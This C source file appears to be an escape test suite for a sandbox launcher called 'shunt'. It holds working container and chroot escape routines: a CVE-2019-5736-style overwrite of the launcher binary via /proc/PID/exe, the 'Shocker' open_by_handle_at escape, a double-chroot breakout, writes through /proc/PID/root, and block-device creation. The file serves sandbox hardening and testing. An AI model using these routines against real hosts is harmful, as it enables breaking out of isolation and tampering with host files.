/* SPDX-License-Identifier: MIT */
/* Files outside: the host's root behind /proc, the launcher's program, leaked descriptors, devices, kernel settings. */
#include "tests/escape/attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void write_file(char *const args[], struct outcome *out)
{
    int fd = open(args[0], O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (outcome_of(out, fd)) {
        outcome_of(out, write(fd, "written inside\n", 15));
        close(fd);
    }
}

static void create_file(char *const args[], struct outcome *out)
{
    int fd = open(args[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (outcome_of(out, fd)) {
        outcome_of(out, write(fd, "made inside\n", 12));
        close(fd);
    }
}

static void remove_file(char *const args[], struct outcome *out)
{
    outcome_of(out, unlink(args[0]));
}

static void rename_over(char *const args[], struct outcome *out)
{
    outcome_of(out, rename(args[0], args[1]));
}

static void read_file(char *const args[], struct outcome *out)
{
    char text[64];
    if (outcome_of(out, attack_read_file(args[0], text, sizeof text)))
        outcome_succeeded(out, "read %zu bytes", strlen(text));
}

static void open_read(char *const args[], struct outcome *out)
{
    outcome_of_open(out, args[0], O_RDONLY | O_NONBLOCK);
}

/* Opened for writing, never written. */
static void open_write(char *const args[], struct outcome *out)
{
    if (access(args[0], F_OK) && errno == ENOENT && args[1] && !strcmp(args[1], "outside-too"))
        outcome_absent(out, "no %s", args[0]);
    else
        outcome_of_open(out, args[0], O_WRONLY);
}

/* The roots of all processes that can be seen: does PATH exist behind one of them? */
static void proc_root(char *const args[], struct outcome *out)
{
    DIR *proc = opendir("/proc");
    if (!proc) {
        outcome_refused(out, errno);
        return;
    }
    outcome_refused(out, ENOENT);
    for (struct dirent *entry; (entry = readdir(proc));) {
        char path[PATH_MAX];
        snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, args[0]);
        int fd = strspn(entry->d_name, "0123456789") == strlen(entry->d_name) ? open(path, O_WRONLY | O_CLOEXEC) : -1;
        if (fd < 0)
            continue;
        if (write(fd, "written inside\n", 15) == 15)
            outcome_succeeded(out, "wrote to %.200s", path);
        close(fd);
    }
    closedir(proc);
}

/* CVE-2019-5736. The program of a process around us that is called shunt, through the magic link, which does not ask what
 * this mount namespace shows. A running program says ETXTBSY, so this holds on to it until its time comes. Only the file
 * that was made for it is harmed: without a sandbox every other shunt of this machine can be seen as well. */
static void own_launcher(char *const args[], struct outcome *out)
{
    unsigned long long device, inode;
    DIR *proc = opendir("/proc");
    if (!proc || sscanf(args[0], "%llu:%llu", &device, &inode) != 2) {
        outcome_refused(out, proc ? EINVAL : errno);
        return;
    }
    outcome_refused(out, ENOENT);
    for (struct dirent *entry; (entry = readdir(proc));) {
        char path[300], comm[64] = "", again[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        if (strspn(entry->d_name, "0123456789") != strlen(entry->d_name) || attack_read_file(path, comm, sizeof comm) < 0 ||
            strncmp(comm, "shunt", 5))
            continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int held = open(path, O_PATH | O_CLOEXEC);
        if (held < 0) {
            outcome_refused(out, errno);
            continue;
        }
        if (fstat(held, &st) < 0 || st.st_dev != device || st.st_ino != inode) {
            close(held);
            continue;
        }
        snprintf(again, sizeof again, "/proc/self/fd/%d", held);
        int fd = -1;
        for (int i = 0; i < 50 && fd < 0; i++) {
            fd = open(again, O_WRONLY | O_CLOEXEC);
            if (fd < 0)
                outcome_refused(out, errno);
            if (fd < 0 && errno != ETXTBSY)
                break;
            usleep(2000);
        }
        close(held);
        if (fd >= 0 && write(fd, "#!", 2) == 2) {
            outcome_succeeded(out, "wrote to %s", path);
            break;
        }
    }
    closedir(proc);
}

static void leaked_descriptors(char *const args[], struct outcome *out)
{
    (void)args;
    for (int fd = 3; fd < 4096; fd++) {
        char path[64], target[160];
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n > 0 ? n : 0] = '\0';
        outcome_succeeded(out, "descriptor %d: %s", fd, target);
        return;
    }
    outcome_refused(out, EBADF);
}

/* Up from the working directory for as long as there is an up: the end must be the root. */
static void above_cwd(char *const args[], struct outcome *out)
{
    (void)args;
    char cwd[PATH_MAX];
    if (syscall(SYS_getcwd, cwd, sizeof cwd) < 0) {
        outcome_absent(out, "getcwd: %s", strerror(errno));
        return;
    }
    if (cwd[0] != '/') {
        outcome_succeeded(out, "the working directory is outside: %.200s", cwd);
        return;
    }
    for (int i = 0; i < 200; i++)
        if (chdir("..")) {
            outcome_refused(out, errno);
            return;
        }
    struct stat top, root;
    if (stat(".", &top) || stat("/", &root))
        outcome_refused(out, errno);
    else if (top.st_dev != root.st_dev || top.st_ino != root.st_ino)
        outcome_succeeded(out, "above the working directory is another root");
    else
        outcome_refused(out, ENOENT);
}

/* The old way out of chroot: a second chroot with a directory kept open, then up. Proof: PATH is there. */
static void chroot_out(char *const args[], struct outcome *out)
{
    int up = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (up < 0 || chroot("/proc")) {
        outcome_refused(out, errno);
        return;
    }
    if (fchdir(up)) {
        outcome_refused(out, errno);
        return;
    }
    for (int i = 0; i < 200; i++)
        if (chdir(".."))
            break;
    if (chroot(".")) {
        outcome_refused(out, errno);
        return;
    }
    write_file(args, out);
}

/* A node for the disk under the given path, opened for reading; its own number is only known from outside. */
static void make_disk(char *const args[], struct outcome *out)
{
    const char *path = args[2];
    dev_t disk = makedev((unsigned)attack_number(args[0]), (unsigned)attack_number(args[1]));
    if (!outcome_of(out, mknod(path, S_IFBLK | 0600, disk)))
        return;
    outcome_of_open(out, path, O_RDONLY);
    unlink(path);
}

/* "Shocker": a file handle works on the whole file system, whatever part of it a sandbox shows. */
static void by_handle(char *const args[], struct outcome *out)
{
    union {
        struct file_handle head;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } handle = {.head.handle_bytes = MAX_HANDLE_SZ};
    int mount_id, place = open(args[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (place < 0 || name_to_handle_at(place, "", &handle.head, &mount_id, AT_EMPTY_PATH)) {
        if (errno == EOPNOTSUPP)
            outcome_absent(out, "this file system has no handles");
        else
            outcome_refused(out, errno);
        return;
    }
    int fd = open_by_handle_at(place, &handle.head, O_RDONLY | O_CLOEXEC);
    if (fd < 0 && errno == ESTALE)
        outcome_absent(out, "this file system has no lasting handles");
    else
        outcome_of(out, fd);
}

const struct attack attacks_files[] = {
    {"write-file", "PATH", 1, write_file, false},
    {"create-file", "PATH", 1, create_file, false},
    {"remove-file", "PATH", 1, remove_file, false},
    {"rename-over", "FROM TO", 2, rename_over, false},
    {"read-file", "PATH", 1, read_file, false},
    {"open-read", "PATH", 1, open_read, false},
    {"open-write", "PATH [outside-too]", 1, open_write, false},
    {"proc-root", "PATH", 1, proc_root, false},
    {"own-launcher", "DEVICE:INODE", 1, own_launcher, false},
    {"leaked-descriptors", "", 0, leaked_descriptors, false},
    {"above-cwd", "", 0, above_cwd, false},
    {"chroot-out", "PATH", 1, chroot_out, false},
    {"make-disk", "MAJOR MINOR PATH", 3, make_disk, false},
    {"by-handle", "DIRECTORY", 1, by_handle, false},
    {0},
};
